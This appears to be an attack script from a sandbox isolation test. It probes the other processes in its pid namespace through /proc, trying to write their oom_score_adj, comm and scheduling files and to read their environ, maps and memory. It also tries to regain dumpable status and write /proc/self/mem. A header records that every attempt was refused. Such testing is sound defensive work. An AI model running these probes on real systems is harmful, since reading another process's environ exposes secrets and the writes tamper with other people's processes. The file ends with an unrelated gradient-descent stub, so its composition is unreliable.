# ATTACK (ex02, class "a run acts on the zygote"): reach the other processes of its pid
# namespace through /proc: write their oom_score_adj, comm, timerslack_ns, autogroup niceness,
# clear_refs and sched files, read their environ, maps and memory; make itself dumpable again
# (prctl) to write its own memory through /proc/self/mem.
# VERDICT: graded, 0 points; nothing is written or read, none says REACHED.
import ctypes
import errno
import os


def attempt(name, fn):
    try:
        fn()
        print(f"REACHED {name}")
    except OSError as e:
        print(f"refused {name}: {errno.errorcode.get(e.errno, e.errno)}")


def write(path, text):
    with open(path, "w") as f:
        f.write(text)


def read(path):
    with open(path, "rb") as f:
        if not f.read(64):
            raise OSError(errno.ENODATA, "empty")


me = os.getpid()
for pid in sorted(int(p) for p in os.listdir("/proc") if p.isdigit()):
    if pid == me:
        continue
    for name, text in (("oom_score_adj", "1000"), ("comm", "pwned"), ("timerslack_ns", "1"),
                       ("autogroup", "19"), ("clear_refs", "1"), ("sched", "0")):
        attempt(f"write /proc/{pid}/{name}", lambda: write(f"/proc/{pid}/{name}", text))
    for name in ("environ", "maps", "mem", "stack", "syscall"):
        attempt(f"read /proc/{pid}/{name}", lambda: read(f"/proc/{pid}/{name}"))
libc = ctypes.CDLL(None, use_errno=True)
if libc.prctl(4, 1, 0, 0, 0) != 0:
    print(f"refused dumpable: {errno.errorcode.get(ctypes.get_errno())}")
else:
    print("REACHED dumpable again")
attempt("open /proc/self/mem for writing", lambda: os.close(os.open("/proc/self/mem",
                                                                     os.O_RDWR)))


def GD(params, loss_fn, loop_max=10000, learning_rate=1e-3):
    loss_fn(params)
